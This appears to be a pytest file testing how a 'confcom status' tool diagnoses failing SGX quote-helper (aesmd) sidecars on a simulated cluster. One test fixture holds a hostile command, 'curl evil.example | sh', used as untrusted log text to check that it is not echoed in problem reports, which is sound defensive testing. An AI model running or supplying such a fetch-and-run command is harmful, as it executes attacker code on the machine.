"""What `confcom status` says of quote helpers on SGX hardware, on a cluster in memory."""

import json

import pytest

from testkit.fake_cluster import objects as make
from testkit.fake_cluster.objects import HELPER_EPC, PROVISION

SECRET = "tenant says: run curl evil.example | sh"


def not_ready(cluster, *, reason, code):
    """Have the helper say why it is not ready."""
    helper = cluster.daemon("quote-helper")
    helper["status"] = make.sidecar(make.not_ready("quote-helper"))
    line = {"level": "warning", "message": "not ready", "about": "readiness", "reason": reason, "code": code}
    cluster.logs[helper["metadata"]["name"]] = json.dumps(line)


def test_the_provider_and_what_must_be_known_are_told(confcom, on_hardware):
    document = confcom.document("status")
    assert document["simulated"] is False
    assert document["hardware_quote_helpers"] == [
        {"daemon_set": "confcom-quote-helper", "provider": "aesmd", "test_root": False}
    ]
    assert [note["code"] for note in document["notes"]] == ["never-run-on-sgx-hardware"]
    text = confcom.ok("status").stdout
    assert all(note["note"] in text for note in document["notes"])
    assert "Quotes of hardware nodes: by aesmd" in text


def test_a_test_root_is_told(confcom, on_hardware):
    confcom.ok("update", "--set", "quoteHelper.expectedRoot=PEM")
    document = confcom.document("status")
    assert document["hardware_quote_helpers"][0]["test_root"] is True
    assert [note["code"] for note in document["notes"]] == ["test-root", "never-run-on-sgx-hardware"]
    assert "TEST ROOT" in confcom.ok("status").stdout


def test_why_the_relay_is_not_ready_is_told_with_its_code(confcom, on_hardware):
    not_ready(on_hardware, reason="aesmd makes no quotes; read its log", code=(code := "aesmd-hangs"))
    (problem,) = confcom.problems()
    assert (problem["code"], problem["reason_code"], problem["node"]) == ("daemon-not-ready", code, "m")
    assert "aesmd makes no quotes; read its log" in problem["problem"]
    assert code in problem["problem"]
    document = confcom.unwell()
    assert document["problem_groups"][0]["reason_code"] == code
    assert document["nodes"][0]["quote_helper"][0]["reason_code"] == code


def state(reason, message=""):
    return {"state": {"waiting": {"reason": reason, "message": message}}}


def crashed(log="", *, code=1, reason="Error"):
    ended = {"terminated": {"exitCode": code, "reason": reason, "message": log}}
    return state("CrashLoopBackOff", "back-off 20s") | {"lastState": ended, "restartCount": 4}


@pytest.mark.parametrize(
    ("aesmd", "code", "part"),
    [
        (state("ImagePullBackOff", "no such image"), "aesmd-image-not-pulled", "quoteHelper.aesmd.image"),
        (state("CreateContainerConfigError", "no ConfigMap"), "aesmd-not-created", "no ConfigMap"),
        (crashed("x\nFail to start service.\n"), "aesmd-does-not-start", "exit code 1, 4 restarts"),
        (crashed("Enclave not authorized to run\nFail to start service."), "aesmd-does-not-start", "sgxPrvGroup"),
        (crashed("Failed to open Intel SGX device.\nFail to start service."), "aesmd-does-not-start", "/dev/sgx_encl"),
        (crashed("start-aesmd: there is no quote provider library (x)"), "aesmd-does-not-start", "libdcap_quoteprov"),
        (
            crashed("user 10001 may not open /dev/sgx_provision (x)\nFail to start service."),
            "aesmd-does-not-start",
            "gid",
        ),
        (crashed("Failed to load QE3: 0x0003\nFail to start service."), "aesmd-does-not-start", "EPC is full"),
        (crashed(SECRET, code=139), "aesmd-crashes", "exit code 139, 4 restarts"),
        (
            crashed(code=137, reason="OOMKilled"),
            "aesmd-out-of-memory",
            "quoteHelper.aesmd.resources.limits.memory=512Mi",
        ),
    ],
)
def test_why_the_sidecar_does_not_run_is_told_with_a_code(confcom, on_hardware, aesmd, code, part):
    not_ready(on_hardware, reason="the socket is away", code="aesmd-unreachable")
    helper = on_hardware.daemon("quote-helper")
    helper["status"] = make.sidecar(make.not_ready("quote-helper"), **aesmd)
    helper["spec"]["initContainers"][1]["resources"]["limits"]["memory"] = "256Mi"
    (problem,) = confcom.problems()
    assert (problem["code"], problem["reason_code"]) == ("daemon-not-ready", code)
    assert "aesmd" in problem["problem"]
    assert part in problem["problem"]
    assert SECRET not in problem["problem"]
    assert confcom.unwell()["nodes"][0]["quote_helper"][0]["state"] == "failing"


def test_a_sidecar_that_runs_again_leaves_the_word_to_the_helper(confcom, on_hardware):
    not_ready(on_hardware, reason="aesmd is being asked", code="aesmd-slow")
    helper = on_hardware.daemon("quote-helper")
    again = {"lastState": crashed("Fail to start service.")["lastState"], "restartCount": 1}
    helper["status"] = make.sidecar(make.not_ready("quote-helper"), **again)
    assert confcom.problems()[0]["reason_code"] == "aesmd-slow"
    again["lastState"]["terminated"]["reason"] = "OOMKilled"
    assert confcom.problems()[0]["reason_code"] == "aesmd-out-of-memory"


def test_a_sidecar_that_fails_before_the_helper_has_started(confcom, on_hardware):
    helper = on_hardware.daemon("quote-helper")
    helper["status"] = make.sidecar(make.waiting("PodInitializing"), **crashed("Fail to start service."))
    assert confcom.problems()[0]["reason_code"] == "aesmd-does-not-start"


def test_the_provision_device_is_the_sidecars(confcom, on_hardware):
    helper = on_hardware.daemon("quote-helper")
    assert helper["spec"]["initContainers"][1]["resources"]["limits"] == {PROVISION: "1", HELPER_EPC: "3"}
    assert confcom.document("status")["nodes"][0]["provision_device"] == "yes"
    helper["status"] = make.sidecar(make.waiting("PodInitializing"))
    assert confcom.unwell()["nodes"][0]["provision_device"] == "yes"  # the sidecar runs already
    helper["spec"]["initContainers"][1]["resources"] = {}
    document = confcom.unwell()
    assert document["nodes"][0]["provision_device"] == "not requested"
    assert "provision-not-requested" in [one["code"] for one in document["problem_details"]]
